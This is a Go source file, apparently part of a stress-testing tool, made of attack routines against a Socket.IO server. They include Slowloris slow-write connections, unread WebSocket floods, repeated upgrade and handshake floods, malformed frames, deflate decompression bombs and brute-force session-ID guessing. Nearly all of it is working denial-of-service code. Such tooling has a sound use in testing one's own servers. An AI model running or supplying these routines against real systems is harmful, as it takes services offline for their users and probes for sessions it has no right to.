package main

import (
	"encoding/base64"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/klauspost/compress/flate"
)

// slowLoris begins a request of headers, a body and a frame, and lets a byte follow ten times a second.
func slowLoris(a *attacker) error {
	begin := func(l *link, err error, first string) *link {
		if err == nil {
			_, err = io.WriteString(l, first)
		}
		if err != nil {
			return nil
		}
		return l
	}
	var links []*link
	header, err := a.dial()
	links = append(links, begin(header, err, "GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: a\r\nX-Slow: "))
	body, session, err := a.polling()
	links = append(links, begin(body, err, "POST /socket.io/?EIO=4&transport=polling"+session+" HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n4"))
	ws, err := a.joined("", "")
	links = append(links, begin(ws, err, "\x81\xff\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x004"))
	links = slices.DeleteFunc(links, func(l *link) bool { return l == nil })
	defer func() {
		for _, l := range links {
			_ = l.Close()
		}
	}()
	for a.ctx.Err() == nil && len(links) > 0 {
		a.wait(100 * time.Millisecond)
		a.tries.Add(int64(len(links)))
		links = slices.DeleteFunc(links, func(l *link) bool {
			_, err := io.WriteString(l, "x")
			if err != nil {
				_ = l.Close()
			}
			return err != nil
		})
	}
	return nil
}

// unread asks on WebSocket for what it does not read.
func unread(frames string) func(*attacker) error {
	return func(a *attacker) error {
		l, err := a.joined("", "")
		if err != nil {
			return err
		}
		defer l.Close()
		_ = l.Conn.(*net.TCPConn).SetReadBuffer(4 << 10)
		for {
			if _, err := io.WriteString(l, frames); err != nil {
				return err
			}
			a.tries.Add(1)
		}
	}
}

// upgrades opens one WebSocket after the other for a session on polling.
func upgrades(a *attacker) error {
	polling, session, err := a.polling()
	if err != nil {
		return err
	}
	defer polling.Close()
	for {
		l, err := a.webSocket(session, "")
		if err != nil {
			return err
		}
		_, err = l.Write(append(frame(opText, "2probe"), frame(opText, "2probe")...))
		_ = l.Close()
		if err != nil {
			return err
		}
		a.tries.Add(1)
	}
}

// broken sends bytes for which the server must end the connection.
func broken(bytes string) func(*attacker) error {
	return func(a *attacker) error {
		l, err := a.webSocket("", "")
		if err != nil {
			return err
		}
		defer l.Close()
		if _, err := io.WriteString(l, bytes); err != nil {
			return err
		}
		a.tries.Add(1)
		_ = l.ended()
		return nil
	}
}

// bombs sends an event that unfolds to size bytes, again and again.
func bombs(size int) func(*attacker) error {
	made := sync.OnceValue(func() []byte {
		var out strings.Builder
		w, err := flate.NewWriter(&out, flate.BestCompression)
		if err != nil {
			panic(err) // the level is one
		}
		_, _ = io.WriteString(w, toGuild+`,["x","`) // a Builder takes everything
		_, _ = io.WriteString(w, strings.Repeat("b", size))
		_, _ = io.WriteString(w, `"]`)
		_ = w.Flush()
		f := frame(opText, strings.TrimSuffix(out.String(), "\x00\x00\xff\xff"))
		f[0] |= 0x40 // RSV1: compressed
		return f
	})
	return func(a *attacker) error {
		l, err := a.joined("", "Sec-WebSocket-Extensions: permessage-deflate\r\n")
		if err != nil {
			return err
		}
		defer l.Close()
		return l.repeat(made())
	}
}

// handshakes opens a session and leaves it.
func handshakes(a *attacker) error {
	l, err := a.webSocket("", "")
	if err != nil {
		return err
	}
	a.tries.Add(1)
	return l.Close()
}

// guessedIDs asks for sessions that there may be.
func guessedIDs(a *attacker) error {
	l, err := a.dial()
	if err != nil {
		return err
	}
	defer l.Close()
	var id [15]byte
	for {
		for i := range id {
			id[i] = byte(rand.Uint32())
		}
		request := fmt.Sprintf("GET /socket.io/?EIO=4&transport=polling&sid=%s HTTP/1.1\r\nHost: a\r\n\r\n", base64.URLEncoding.EncodeToString(id[:]))
		if _, err := io.WriteString(l, request); err != nil {
			return err
		}
		r, err := http.ReadResponse(l.in, nil)
		if err != nil {
			return err
		}
		if _, err := io.Copy(io.Discard, r.Body); err != nil {
			return err
		}
		a.tries.Add(1)
	}
}
